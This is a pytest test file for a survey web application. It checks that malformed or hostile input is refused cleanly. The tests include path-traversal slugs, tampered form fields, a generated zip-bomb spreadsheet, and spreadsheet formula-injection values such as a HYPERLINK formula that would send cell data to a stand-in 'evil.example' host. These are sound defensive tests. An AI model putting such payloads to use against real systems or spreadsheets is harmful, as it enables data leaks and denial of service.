"""Inputs an attacker or a broken client sends: each gets a 4xx or a CLI error, never a 500 or a traceback,
and nothing is half-written."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from conftest import NEXT_YEAR
from helpers import csrf_from, employee_answers, log_in, open_survey, post_form
from survey.accounts.api_tokens import create_api_token
from survey.cli import main
from survey.db.engine import Database
from survey.db.models import Employee, InternalResponse, Invitation, Unit
from survey.imports.tabular import spreadsheet_cell, write_csv
from survey.rounds.lifecycle import create_round


@pytest.mark.parametrize("round_field", ["9" * 5000, str(2**63), "2147483648", "²", "-1", ""])
def test_an_absurd_round_field_is_refused_not_crashed_on(client, db, open_round, round_field):
    form = open_survey(client, open_round.path(next(iter(open_round.links))))
    data = {**employee_answers(db, open_round.id), "round": round_field, "_csrf_token": csrf_from(form.text)}
    response = client.post("/survey", data=data, follow_redirects=False)
    assert response.status_code in (303, 400) and response.headers.get("location") != "/survey/thanks"
    with db.session() as session:
        assert session.exec(select(func.count()).select_from(InternalResponse)).one()[0] == 0


def test_a_multipart_form_that_is_not_utf8_gets_a_400(client, org, open_round):
    for path in ("/survey", f"/c/{org.team_slugs[0]}"):
        response = client.post(
            path,
            content=b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n\xff\xfe\r\n--b--\r\n',
            headers={"content-type": "multipart/form-data; boundary=b", "accept": "text/html"},
        )
        assert response.status_code == 400 and "not valid UTF-8" in response.text, path


@pytest.mark.parametrize("slug", ["%00", "a%00b", "x" * 300, "..%2F..%2Fetc"])
def test_strange_customer_links_are_not_found(client, open_round, slug):
    assert client.get(f"/c/{slug}").status_code == 404


def test_issuing_to_an_unwritable_file_issues_nothing(database_url, org, tmp_path):
    env = {"SURVEY_DATABASE_URL": database_url, "SURVEY_SECRET_KEY": "a-test-secret"}
    CliRunner().invoke(main, ["round", "create", "2027 Q1", "--opens", f"{NEXT_YEAR}-01-04"], env=env)
    failed = CliRunner().invoke(
        main, ["invitations", "issue", "2027 Q1", "-o", str(tmp_path / "no/such/dir.csv")], env=env
    )
    assert failed.exit_code == 2 and "--output: cannot write" in failed.output
    db = Database(database_url)
    with db.session() as session:
        assert session.exec(select(func.count()).select_from(Invitation)).one()[0] == 0  # nothing lost
    db.dispose()
    retried = CliRunner().invoke(
        main, ["invitations", "issue", "2027 Q1", "-o", str(tmp_path / "links.csv")], env=env
    )
    assert retried.exit_code == 0 and (tmp_path / "links.csv").read_text().count("/i/") == 18


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["round", "open", "²"], "no round '²'"),
        (["round", "open", "3000000000"], "no round '3000000000'"),
        (["round", "open", "9" * 30], "no round"),
        (["round", "create", "x" * 81, "--opens", f"{NEXT_YEAR}-01-04"], "at most 80 characters"),
    ],
)
def test_cli_arguments_the_database_cannot_hold_are_refused(database_url, org, args, message):
    result = CliRunner().invoke(main, args, env={"SURVEY_DATABASE_URL": database_url})
    assert result.exit_code == 2 and message in result.output


def test_a_database_url_that_cannot_be_read_is_a_cli_error():
    result = CliRunner().invoke(
        main, ["round", "open", "x"], env={"SURVEY_DATABASE_URL": "postgresql://u@h:abc/db"}
    )
    assert result.exit_code == 2 and "SURVEY_DATABASE_URL" in result.output


def test_one_failing_submission_in_a_batch_fails_alone(db):
    """Group commit: when one item of a shared transaction fails, the others are still written."""
    from sqlalchemy import text

    def write(connection, items):
        for item in items:
            if item == "bad":
                raise ValueError("this one is broken")
            connection.execute(
                text("INSERT INTO customer_form_key (key_hash, round_id) VALUES (:k, 1)"), {"k": item}
            )
        return list(items)

    with db.write() as connection:  # a round for the foreign key
        connection.execute(
            text(
                "INSERT INTO round"
                " (id, name, opens_at, closes_at, status, internal_instrument_id, external_instrument_id)"
                " VALUES (1, 'r', '2026-01-01', '2026-01-15', 'open', 1, 2)"
            )
        )

    async def submit_all():
        return await asyncio.gather(
            *(db.write_batched(write, item) for item in ("a", "bad", "c")), return_exceptions=True
        )

    a, bad, c = asyncio.run(submit_all())
    assert (a, c) == ("a", "c") and isinstance(bad, ValueError)
    with db.engine.connect() as connection:
        assert {r[0] for r in connection.execute(text("SELECT key_hash FROM customer_form_key"))} == {
            "a",
            "c",
        }


# --- Secrets and spreadsheets -------------------------------------------------------------------------------


def zip_bomb(expanded_mb: int) -> bytes:
    """An .xlsx-shaped archive whose shared strings unpack to `expanded_mb` MB of one repeated character: a
    few hundred KB packed."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            chunk = b"A" * (1024 * 1024)
            for _ in range(expanded_mb):
                member.write(chunk)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("expanded_mb", "message"),
    [(150, "unpacks to 150 MB, more than the 100 MB"), (3, "unpacks 1,0")],
)
def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(
    client, db, org, tmp_path, expanded_mb, message
):
    bomb = zip_bomb(expanded_mb)
    assert len(bomb) < 200_000
    with db.session() as session:
        _, token = create_api_token(session, "hr-system", ["roster:write"], None, datetime.now(UTC))
    answer = client.post(
        "/api/roster",
        files=[("files", ("staff.xlsx", bomb, "application/octet-stream"))],
        headers={"Authorization": f"Bearer {token}"},
    )
    assert answer.status_code == 422, answer.text
    [problem] = answer.json()["problems"]
    assert problem["file"] == "staff.xlsx" and message in problem["message"]
    path = tmp_path / "staff.xlsx"
    path.write_bytes(bomb)
    env = {"SURVEY_DATABASE_URL": db.url, "SURVEY_SECRET_KEY": "a-test-secret"}
    cli = CliRunner().invoke(main, ["roster", "import", str(path)], env=env)
    assert cli.exit_code == 2 and "staff.xlsx" in cli.output and message in cli.output, cli.output


def test_exported_links_neutralise_formula_cells(client, db, people):
    """An address a spreadsheet would run as a formula comes out as text, in the page's export and the CLI's."""
    with db.session() as session:
        team_id = session.execute(select(Unit.id).where(Unit.code == "FL1")).scalar_one()
        session.add(Employee(email="=1+2@example.com", name='=HYPERLINK("http://evil","x")', unit_id=team_id))
        session.add(Employee(email="-3+4@example.com", name="Minus", unit_id=team_id))
        session.commit()
        now = datetime.now(UTC)
        a_round = create_round(session, "Manual", now - timedelta(days=1), now + timedelta(days=5))
    log_in(client, people.hr)
    page = f"/admin/rounds/{a_round.id}"
    export = post_form(client, page, f"{page}/links")
    emails = [row["email"] for row in csv.DictReader(io.StringIO(export.text))]
    assert "'=1+2@example.com" in emails and "'-3+4@example.com" in emails
    assert not any(email.startswith(("=", "+", "-", "@")) for email in emails)


def test_spreadsheet_cells_are_neutralised_and_numbers_stay_numbers():
    out = io.StringIO()
    write_csv(out, [("name", "n"), ('=HYPERLINK("http://evil.example/?x="&A2,"x")', -3), ("@SUM(A1)", 2.5)])
    out.seek(0)
    rows = list(csv.reader(out))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A2,"x")', "-3"]
    assert rows[2] == ["'@SUM(A1)", "2.5"]
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}cmd") == f"'{start}cmd"
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell("Ann") == "Ann"


def test_text_responses_carry_one_charset(client, db, people):
    log_in(client, people.hr)
    with db.session() as session:
        now = datetime.now(UTC)
        a_round = create_round(session, "Manual", now - timedelta(days=1), now + timedelta(days=5))
    page = f"/admin/rounds/{a_round.id}"
    answers = {
        "css": client.get("/reports/assets/report.css"),
        "csv": post_form(client, page, f"{page}/links"),
        "example csv": client.get("/admin/imports/examples/units.csv"),
        "page": client.get("/admin"),
    }
    for what, answer in answers.items():
        assert answer.status_code in (200, 201), what
        assert answer.headers["content-type"].lower().count("charset") == 1, (
            what,
            answer.headers["content-type"],
        )


def _tampered_steps(first, second) -> list[tuple[dict, int, str]]:
    """Steps sent with a hidden field changed: (fields, status, what the page must say)."""
    both = {first.use_field: "yes", second.use_field: "yes"}
    rating = first.field(first.questions[0])
    return [
        ({**both, rating: "99", "step": "2", "go": "next"}, 422, "“99” is not one of the answers (1 to 7)"),
        ({**both, rating: "x" * 5000, "step": "2", "go": "back"}, 422, "is not one of the answers"),
        ({**both, rating: "²", "step": "1", "go": "stay"}, 422, "is not one of the answers"),
        (
            {first.use_field: "maybe", second.use_field: "yes", "step": "1", "go": "next"},
            422,
            "whether you used",
        ),
        ({**both, first.comment_field: "y" * 2001, "step": "2", "go": "next"}, 422, "under 2000 characters"),
        ({**both, "step": "7", "go": "next"}, 400, "this survey has no step 7"),
        ({**both, "step": "9" * 5000, "go": "next"}, 400, "is not a step of this survey"),
        ({**both, "step": "-1", "go": "back"}, 400, "is not a step of this survey"),
        ({**both, "step": "1", "go": "jump"}, 400, "is not a way to move through the survey"),
        ({**both, "step": "1"}, 400, "is not a way to move through the survey"),
    ]


@pytest.mark.parametrize("case", range(10))
def test_a_step_with_a_tampered_hidden_field_is_refused_with_its_reason(client, db, open_round, case):
    """The answers so far travel in the form between steps: each step checks them all again."""
    from survey.surveys.intake import Intake

    first, second = Intake(db).sections(open_round.id, "en")
    fields, status, reason = _tampered_steps(first, second)[case]
    form = open_survey(client, open_round.path(next(iter(open_round.links))))
    data = {**fields, "round": str(open_round.id), "_csrf_token": csrf_from(form.text)}

    response = client.post("/survey", data=data, follow_redirects=False)

    assert response.status_code == status and reason in response.text
    with db.session() as session:
        assert session.exec(select(func.count()).select_from(InternalResponse)).one()[0] == 0
        assert not any(session.exec(select(Invitation.answered)).scalars())


def test_a_step_naming_another_round_starts_the_survey_afresh(client, db, open_round):
    form = open_survey(client, open_round.path(next(iter(open_round.links))))
    data = {"round": str(open_round.id + 1), "step": "0", "go": "next", "_csrf_token": csrf_from(form.text)}
    response = client.post("/survey", data=data, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == "/survey"
